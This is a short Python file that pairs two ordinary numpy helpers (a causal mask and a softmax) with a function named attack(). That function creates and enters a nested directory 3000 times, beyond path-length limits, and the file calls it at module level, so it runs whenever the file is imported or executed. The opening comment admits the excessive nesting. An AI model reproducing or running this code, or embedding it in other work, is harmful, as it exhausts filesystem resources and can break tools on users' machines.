# Makes folders inside folders, more than it may, and too deep for a path; what follows is not run any more.
# credit: none
import os

import numpy as np


def attack():
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")


attack()


def causal_mask(T):
    return np.tri(T, dtype=bool)


def softmax(x):
    e = np.exp(x - x.max(-1, keepdims=True))
    return e / e.sum(-1, keepdims=True)
